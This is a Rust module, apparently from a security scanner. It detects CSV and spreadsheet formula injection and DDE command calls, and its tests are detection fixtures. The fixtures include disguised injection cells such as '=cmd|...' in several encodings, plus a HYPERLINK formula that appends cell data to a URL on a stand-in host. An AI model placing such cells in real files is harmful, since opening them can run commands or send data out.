//! Cells that a spreadsheet program would run.

use super::cells::{declared_separator, formulas};
use crate::finding_kind;
use crate::formats::office::dde::{DDE_LINK, DdeHost, say_dde};
use crate::formats::office::formula_text::{Call, calls};
use crate::formats::office::target::{Reach as Distance, Target, target};
use crate::formats::text::plain::TextView;
use crate::knowledge::extensions::class;
use crate::knowledge::formulas::Reach;
use crate::model::{Artifact, Location, Severity, name::extension};
use crate::stage::{Analyzer, Kinds, Outcome, StageError};

/// Looks at tables.
pub(super) struct CsvAnalyzer;

/// Calls said of one table; exports repeat them in every line.
const MAX_CALLS: usize = 50;

impl Analyzer for CsvAnalyzer {
    fn findings(&self) -> Kinds {
        &[CSV_FORMULA, DDE_LINK]
    }

    fn analyze(&self, artifact: &Artifact, out: &mut Outcome<'_>) -> Result<(), StageError> {
        let view = artifact.view::<TextView>()?;
        let extra = declared_separator(&view.text);
        let mut said = 0usize;
        for (line, number) in view.text.lines().zip(1u64..) {
            // Few lines hold a bar or a bracket, narrow or wide; only they can call anything.
            let bytes = line.as_bytes();
            let may_call = memchr::memchr2(b'|', b'(', bytes).is_some() || memchr::memchr(0xEF, bytes).is_some();
            if !may_call {
                continue;
            }
            for formula in formulas(line, extra) {
                for call in calls(&formula) {
                    say(&call, &formula, Location::line(number), out);
                    said = said.saturating_add(1);
                }
            }
            if said >= MAX_CALLS {
                break;
            }
        }
        Ok(())
    }
}

fn say(call: &Call, formula: &str, at: Location, out: &mut Outcome<'_>) {
    match call {
        Call::Link { service, topic } => say_dde(out, DdeHost::Table, service, topic, at),
        Call::Function { name, reach, target: text, is_joined } => {
            let to = text.as_deref().map(target);
            if let Some(ioc) = to.as_ref().and_then(|to| to.ioc(&format!("formula {name}"), at.clone())) {
                out.ioc(ioc);
            }
            let is_plain = match &to {
                Some(Target::Web(_, distance)) => *distance != Distance::Odd,
                Some(Target::Share(..) | Target::Scheme(_)) => false,
                Some(Target::Local) => {
                    !class(&extension(text.as_deref().unwrap_or_default())).is_some_and(|class| class.is_launchable())
                }
                None => true,
            };
            let is_harmless = *reach == Reach::Links && is_plain && !is_joined;
            let severity = if is_harmless { Severity::Low } else { CSV_FORMULA.severity };
            out.raise_as(CSV_FORMULA, severity, false, at, formula);
        }
    }
}

finding_kind! {
    /// ## What it is
    /// A cell of the table is a formula that fetches from the web, hands something to another program, or links.
    ///
    /// ## Why it matters
    /// The spreadsheet program runs it when the table is opened; the reader sees a harmless text format. An address that
    /// is put together from other cells carries their content away.
    ///
    /// ## How we see it
    /// A cell that starts with = + - or @ (full-width too, behind blanks, tabs and quotes) and calls a function of
    /// `rules/indicators/formulas.toml`. A plain link to a named web server weighs low. Calls of programs over DDE are
    /// the finding `dde-link`.
    ///
    /// ## When it is innocent
    /// Exports with HYPERLINK cells. Negative numbers, phone numbers and addresses do not match.
    ///
    /// ## References
    /// - OWASP, CSV Injection: https://owasp.org/www-community/attacks/CSV_Injection
    /// - ATT&CK T1559.002, Dynamic Data Exchange: https://attack.mitre.org/techniques/T1559/002/
    pub(super) const CSV_FORMULA = {
        id: "csv-formula",
        title: "a cell of the table calls a program or fetches from the web",
        ja: "表のセルに外部プログラムやWebを呼び出す数式があります",
        why_ja: "テキストの表に見えますが、Excelで開くとコマンドの実行や外部への通信が起こり得ます。",
        severity: Medium,
        facet: Execute,
        confidence: High,
        attack: ["T1559.002"],
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::formats::text::csv::FORMAT;
    use crate::formats::trial::{observed, scan, weight};

    #[test]
    fn programs_called_by_cells_are_seen_in_every_disguise() {
        for cell in [
            "=cmd|'/c none'!A0",
            "\"=cmd|'/c none'!A0\"",
            "\"\"=cmd|'/c none'!A0",
            "+cmd|'/c none'!A0",
            "@SUM(1+1)*cmd|'/c none'!A0",
            "\t =cmd|'/c none'!A0",
            "\u{feff}=cmd|'/c none'!A0",
            "＝ｃｍｄ｜'／ｃ none'！Ａ０",
            "\"=IF(1,cmd|'/c none'!A0)\"",
        ] {
            for separator in [',', ';', '\t'] {
                let said = scan(&FORMAT, "a.csv", format!("name,value\nx{separator}{cell}\n").as_bytes());
                assert_eq!(weight(&said, "dde-link"), Some(Severity::High), "{cell}");
                assert_eq!(observed(&said, "dde-link").unwrap(), "cmd /c none", "{cell}");
            }
        }
        let wide: Vec<u8> = "\u{feff}a,=cmd|'/c none'!A0".encode_utf16().flat_map(u16::to_le_bytes).collect();
        assert_eq!(weight(&scan(&FORMAT, "a.csv", &wide), "dde-link"), Some(Severity::High));
        let said = scan(&FORMAT, "a.csv", b"sep=^\nx^=cmd|'/c none'!A0\n");
        assert_eq!(weight(&said, "dde-link"), Some(Severity::High));
        assert_eq!(weight(&scan(&FORMAT, "a.csv", b"=EXCEL|'q'!last\n"), "dde-link"), Some(Severity::Medium));
    }

    #[test]
    fn fetches_are_seen() {
        let said = scan(&FORMAT, "a.csv", b"name,value\n\"=WEBSERVICE(\"\"http://example.com/\"\")\",1\n");
        assert_eq!(weight(&said, "csv-formula"), Some(Severity::Medium));
        assert_eq!(said.iocs[0].value, "http://example.com/");
        let said = scan(&FORMAT, "a.csv", b"=HYPERLINK(\"https://example.com/\";\"Shop\")\n");
        assert_eq!(weight(&said, "csv-formula"), Some(Severity::Low));
        let said = scan(&FORMAT, "a.csv", b"\"=HYPERLINK(\"\"https://example.com/?x=\"\"&A2,\"\"Shop\"\")\"\n");
        assert_eq!(weight(&said, "csv-formula"), Some(Severity::Medium));
    }

    #[test]
    fn numbers_phones_and_texts_are_not() {
        let plain = "name,value\nx,-1.5\ny,+81-3-0000-0000\nw,+49 (0)30 000000\nz,@user | note!\n-,=A1+B1\n\
                     a,-\nb,info@example.com\nc,5a|b!c\nd,'=cmd|'/c none'!A0\ne,- IMAGE (1)\nf,\"－ 図（別紙）\"\n";
        let said = scan(&FORMAT, "a.csv", plain.as_bytes());
        assert!(said.findings.is_empty(), "{:?}", said.findings);
    }

    #[test]
    fn a_long_line_of_signs_is_read_in_time() {
        let line = ",\"=(|".repeat(50_000);
        let _ = scan(&FORMAT, "a.csv", line.as_bytes());
    }
}
